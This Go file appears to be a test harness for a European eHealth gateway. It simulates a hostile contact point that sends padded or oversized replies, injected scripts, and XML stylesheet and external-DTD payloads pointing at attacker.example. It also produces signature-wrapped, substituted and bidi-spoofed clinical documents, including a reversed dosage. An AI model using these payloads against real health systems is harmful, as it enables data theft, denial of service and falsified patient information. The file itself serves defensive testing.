package peer

import (
	"bytes"
	"encoding/base64"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"

	"github.com/beevik/etree"

	"github.com/luxncp/luxncp/internal/ehdsi"
	"github.com/luxncp/luxncp/internal/soap"
	"github.com/luxncp/luxncp/internal/xca"
)

// The hostile modes: a contact point that presents its pinned certificate
// and speaks the protocol but tampers with what it sends (issue 24).
const (
	// ModePadded: a retrieved document comes padded with empty elements
	// to Options.PadBytes (default 16 MB), streamed without being held.
	ModePadded Mode = "padded"
	// ModeLongText: every answer is a refusal whose text is
	// Options.TextBytes (default 40 MiB) long, with line breaks and a
	// right-to-left override, under an unknown code containing "CONSENT".
	ModeLongText Mode = "longtext"
	// ModeScript: the documents carry active content: an XHTML script in
	// the Patient Summary's narrative (signed), a stylesheet processing
	// instruction before the ePrescriptions, a DOCTYPE with an external
	// DTD and a parameter entity before the L1 documents.
	ModeScript Mode = "script"
	// ModeUnsigned: the documents come without their signature.
	ModeUnsigned Mode = "unsigned"
	// ModeWrapped: an unsigned, altered twin is sent with the signed
	// original wrapped inside it.
	ModeWrapped Mode = "wrapped"
	// ModeSubstitute: a retrieve answers, under the requested id, another
	// validly signed document of the same patient.
	ModeSubstitute Mode = "substitute"
	// ModeBidi: the documents, signed, carry bidi overrides, isolates,
	// zero-width and C1 control characters (Hidden) in the patient's given
	// name, a coded display and a narrative dosage written to display
	// reversed, and a title of 5 000 characters (Bidi).
	ModeBidi Mode = "bidi"
)

// Hidden are the characters ModeBidi hides in a document: every one must
// be gone from what a clinician sees.
const Hidden = "\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200B\u200C\u200D\u200E\u200F" +
	"\u2060\u2061\u2062\u2063\u2064\uFEFF\u061C\u0085\u009B"

// BidiDose is the dosage ModeBidi writes in the first narrative table
// cell: with the override a browser shows "Dose émirpmoc 1 10 mg";
// stripped of it, it reads in logical order, BidiDoseShown.
const (
	BidiDose      = "Dose \u202Egm 01 1 comprimé\u202C"
	BidiDoseShown = "Dose gm 01 1 comprimé"
)

// Bidi is ModeBidi's alteration of an unsigned document.
func Bidi(data []byte) []byte {
	for _, r := range [][2]string{
		{"</given>", "\u202Esiobud live\u2066\u200B\uFEFF\u2069</given>"},
		{"<title>", "<title>\u202E\u200F" + strings.Repeat("Titre très long ", 320)},
		{"<td>", "<td>" + BidiDose + "\u200B\u2060\u061C\u0085\u009B "},
		{`displayName="`, `displayName="` + "\u202D\u2067\u200E\u2064"},
		{"</td>", "\u202A\u202B\u2068\u200C\u200D\u2061\u2062\u2063</td>"},
	} {
		data = bytes.Replace(data, []byte(r[0]), []byte(r[1]), 1)
	}
	return data
}

// Payloads of ModeScript.
const (
	scriptPayload     = `<x:script xmlns:x="http://www.w3.org/1999/xhtml">document.title='PWNED'</x:script>`
	stylesheetPayload = `<?xml-stylesheet type="text/xsl" href="https://attacker.example/steal.xsl"?>`
	doctypePayload    = `<!DOCTYPE ClinicalDocument SYSTEM "https://attacker.example/x.dtd" [<!ENTITY % p SYSTEM "https://attacker.example/p.ent"> %p;]>`
)

// hostileUnsigned alters a document before it is signed (ModeScript's
// signed script).
func (p *Peer) hostileUnsigned(class string, data []byte) []byte {
	if p.opt.Fail == ModeBidi {
		return Bidi(data)
	}
	if p.opt.Fail == ModeScript && class == ehdsi.ClassPS {
		return bytes.Replace(data, []byte("<text>"), []byte("<text>"+scriptPayload), 1)
	}
	return data
}

// hostileSigned alters a signed document (level L1 or L3) as the mode
// says; unsigned is the same document before it was signed.
func (p *Peer) hostileSigned(class string, l1 bool, unsigned, signed []byte) []byte {
	switch p.opt.Fail {
	case ModeScript:
		switch {
		case l1:
			return prolog(signed, doctypePayload)
		case class == ehdsi.ClassEP:
			return prolog(signed, stylesheetPayload)
		}
	case ModeUnsigned:
		return unsigned
	case ModeWrapped:
		// The altered twin keeps the original's header; the signed original
		// hides in an element luxncp does not read.
		twin := bytes.Replace(unsigned, []byte("<title>"), []byte("<title>Altered: "), 1)
		inner := signed
		if i := bytes.Index(inner, []byte("<ClinicalDocument")); i > 0 {
			inner = inner[i:]
		}
		i := bytes.LastIndex(twin, []byte("</ClinicalDocument>"))
		return append(append(append([]byte{}, twin[:i]...), []byte(`<wrapped xmlns="urn:attacker">`)...),
			append(append(inner, []byte(`</wrapped>`)...), twin[i:]...)...)
	}
	return signed
}

// prolog puts text after the XML declaration (or first).
func prolog(doc []byte, text string) []byte {
	if bytes.HasPrefix(doc, []byte("<?xml")) {
		if i := bytes.Index(doc, []byte("?>")); i > 0 {
			return append(append(append([]byte{}, doc[:i+2]...), text...), doc[i+2:]...)
		}
	}
	return append([]byte(text), doc...)
}

// substitute returns, for ModeSubstitute, another document of the same
// patient and class than d (the first by id), or d.
func (p *Peer) substitute(d *document) *document {
	if p.opt.Fail != ModeSubstitute {
		return d
	}
	var best *document
	for id, o := range p.docs {
		if id != d.entry.UniqueID && o.entry.Patient == d.entry.Patient && o.entry.ClassCode == d.entry.ClassCode &&
			(best == nil || id < best.entry.UniqueID) {
			best = o
		}
	}
	if best == nil {
		return d
	}
	return best
}

// hostileReply answers ModePadded's retrieves and every ModeLongText
// request; it reports false for requests it leaves to the endpoints.
func (p *Peer) hostileReply(w http.ResponseWriter, r *http.Request) bool {
	if p.opt.Fail != ModePadded && p.opt.Fail != ModeLongText {
		return false
	}
	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	if err != nil {
		return true
	}
	r.Body = io.NopCloser(bytes.NewReader(body))
	retrieve := bytes.Contains(body, []byte("RetrieveDocumentSetRequest"))
	switch {
	case p.opt.Fail == ModeLongText && r.URL.Path == ehdsi.PathXCA && retrieve:
		p.replay(w, "retrieve", func(w http.ResponseWriter) { p.writeLongRegistryError(w, true) })
		return true
	case p.opt.Fail == ModeLongText && r.URL.Path == ehdsi.PathXCA:
		p.replay(w, "query", func(w http.ResponseWriter) { p.writeLongRegistryError(w, false) })
		return true
	case p.opt.Fail == ModeLongText:
		p.replay(w, "fault", func(w http.ResponseWriter) {
			_ = soap.WriteFault(w, ehdsi.Receiver("ERROR_CONSENT_SIMULATED", p.longText(), nil), "")
		})
		return true
	case retrieve:
		p.writePadded(w, body)
		return true
	}
	return false
}

// replay sends the reply of kind, written by write the first time and
// kept: the peer's own allocations stay out of a memory measurement of
// the gateway it attacks (it shares the test's process).
func (p *Peer) replay(w http.ResponseWriter, kind string, write func(http.ResponseWriter)) {
	p.mu.Lock()
	rec, ok := p.long[kind]
	if !ok {
		rec = httptest.NewRecorder()
		write(rec)
		if p.long == nil {
			p.long = map[string]*httptest.ResponseRecorder{}
		}
		p.long[kind] = rec
	}
	p.mu.Unlock()
	for k, v := range rec.Header() {
		w.Header()[k] = v
	}
	w.WriteHeader(rec.Code)
	_, _ = w.Write(rec.Body.Bytes())
}

// longText is ModeLongText's text: line breaks, a right-to-left override
// and padding to TextBytes.
func (p *Peer) longText() string {
	n := p.opt.TextBytes
	if n <= 0 {
		n = 40 << 20
	}
	head := "The request was refused.\nContact\u202Etcatnoc the administrator. "
	return head + strings.Repeat("x", max(n-len(head), 0))
}

// writeLongRegistryError answers an XCA request with a Failure carrying
// one RegistryError whose codeContext is longText.
func (p *Peer) writeLongRegistryError(w http.ResponseWriter, retrieve bool) {
	list := etree.NewElement("rs:RegistryErrorList")
	re := list.CreateElement("rs:RegistryError")
	re.CreateAttr("errorCode", "ERROR_CONSENT_SIMULATED")
	re.CreateAttr("codeContext", p.longText())
	re.CreateAttr("severity", "urn:oasis:names:tc:ebxml-regrep:ErrorSeverityType:Error")
	const failure = "urn:oasis:names:tc:ebxml-regrep:ResponseStatusType:Failure"
	var body *etree.Element
	action := ehdsi.ActionXCAQueryResp
	if retrieve {
		action = ehdsi.ActionXCARetrieveResp
		body = soap.NewElement("xdsb", "RetrieveDocumentSetResponse", xca.NSXDSB)
		rr := body.CreateElement("rs:RegistryResponse")
		rr.CreateAttr("xmlns:rs", xca.NSRS)
		rr.CreateAttr("status", failure)
		rr.AddChild(list)
	} else {
		body = soap.NewElement("query", "AdhocQueryResponse", xca.NSQuery)
		body.CreateAttr("xmlns:rs", xca.NSRS)
		body.CreateAttr("status", failure)
		body.AddChild(list)
	}
	_ = soap.Write(w, soap.Response{Action: action, Body: body}, false)
}

// writePadded answers a retrieve with the requested document padded with
// empty elements after its root start tag to PadBytes, base64 inline,
// streamed: the peer never holds the padded document.
func (p *Peer) writePadded(w http.ResponseWriter, req []byte) {
	id := ""
	if doc := etree.NewDocument(); doc.ReadFromBytes(req) == nil {
		if e := doc.FindElement("//DocumentUniqueId"); e != nil {
			id = strings.TrimSpace(e.Text())
		}
	}
	d, ok := p.docs[id]
	if !ok {
		_ = soap.WriteFault(w, ehdsi.Receiver(ehdsi.ErrGenericDocumentMissing, "no such document", nil), "")
		return
	}
	pad := p.opt.PadBytes
	if pad <= 0 {
		pad = 16 << 20
	}
	start := bytes.Index(d.data, []byte("<ClinicalDocument"))
	end := start + bytes.IndexByte(d.data[start:], '>') + 1
	w.Header().Set("Content-Type", soap.MediaSOAP12+"; charset=utf-8")
	_, _ = io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><env:Envelope xmlns:env="`+soap.NSSOAP12+`" xmlns:wsa="`+soap.NSAddressing+`">`+
		`<env:Header><wsa:Action>`+ehdsi.ActionXCARetrieveResp+`</wsa:Action></env:Header><env:Body>`+
		`<xdsb:RetrieveDocumentSetResponse xmlns:xdsb="`+xca.NSXDSB+`" xmlns:rs="`+xca.NSRS+`">`+
		`<rs:RegistryResponse status="urn:oasis:names:tc:ebxml-regrep:ResponseStatusType:Success"/>`+
		`<xdsb:DocumentResponse><xdsb:HomeCommunityId>urn:oid:`+d.entry.HomeCommunityID+`</xdsb:HomeCommunityId>`+
		`<xdsb:RepositoryUniqueId>`+d.entry.RepositoryUniqueID+`</xdsb:RepositoryUniqueId>`+
		`<xdsb:DocumentUniqueId>`+id+`</xdsb:DocumentUniqueId><xdsb:mimeType>text/xml</xdsb:mimeType><xdsb:Document>`)
	enc := base64.NewEncoder(base64.StdEncoding, w)
	_, _ = enc.Write(d.data[:end])
	chunk := bytes.Repeat([]byte("<a/>"), 16<<10)
	for n := 0; n < pad; n += len(chunk) {
		if _, err := enc.Write(chunk); err != nil {
			return // the client hung up
		}
	}
	_, _ = enc.Write(d.data[end:])
	_ = enc.Close()
	_, _ = io.WriteString(w, `</xdsb:Document></xdsb:DocumentResponse></xdsb:RetrieveDocumentSetResponse></env:Body></env:Envelope>`)
}
